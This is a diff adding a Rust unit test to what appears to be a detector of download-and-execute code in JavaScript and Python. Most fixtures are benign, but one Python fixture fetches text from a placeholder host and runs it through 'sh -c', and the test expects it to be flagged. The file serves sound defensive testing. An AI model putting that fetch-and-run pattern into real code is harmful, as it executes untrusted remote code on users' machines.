@@ -175,3 +175,10 @@ fn a_downloaded_name_in_a_path_is_not_downloaded_code() {
     let text = "const axios = require('axios');\nconst path = require('path');\nconst { spawn } = require('child_process');\nasync function install(dir) {\n  const response = await axios.request({ url: 'https://x.example.invalid/versions.json' });\n  const version = response.data.version;\n  const bin = path.resolve(dir, version, 'chromedriver');\n  spawn(bin, ['--version']);\n}\n";
     assert!(js(text).is_empty(), "{:?}", js(text));
 }
+
+#[test]
+fn data_fed_to_a_process_is_not_the_process() {
+    assert!(js("const { execa } = require('execa');\nasync function f() { const response = await fetch('https://x.example.invalid'); await execa('sort', [], { stdin: response.body }); }\n").is_empty());
+    assert!(py("import subprocess, requests\ndata = requests.get('https://x.example.invalid').content\nsubprocess.run(['sort'], input=data)\n").is_empty());
+    assert_eq!(py("import subprocess, requests\ndata = requests.get('https://x.example.invalid').text\nsubprocess.run(args=['sh', '-c', data])\n").len(), 1);
+}
